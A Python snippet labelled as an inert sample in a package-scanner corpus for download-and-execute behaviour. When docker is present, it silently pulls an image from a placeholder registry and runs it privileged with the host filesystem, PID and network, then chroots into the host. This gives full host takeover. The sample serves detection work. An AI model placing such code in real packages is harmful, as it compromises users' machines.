# pkgguard corpus 840 (download-execute), modelled on [developer-persistence]; inert, never run.
import shutil
import subprocess

if shutil.which("docker"):
    subprocess.Popen(
        ["docker", "run", "-d", "--rm", "--privileged", "--pid=host", "--net=host", "-v", "/:/host",
         "registry.example/ops/node-helper:latest", "chroot", "/host", "/bin/sh", "-c", "/usr/local/bin/node-helper"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
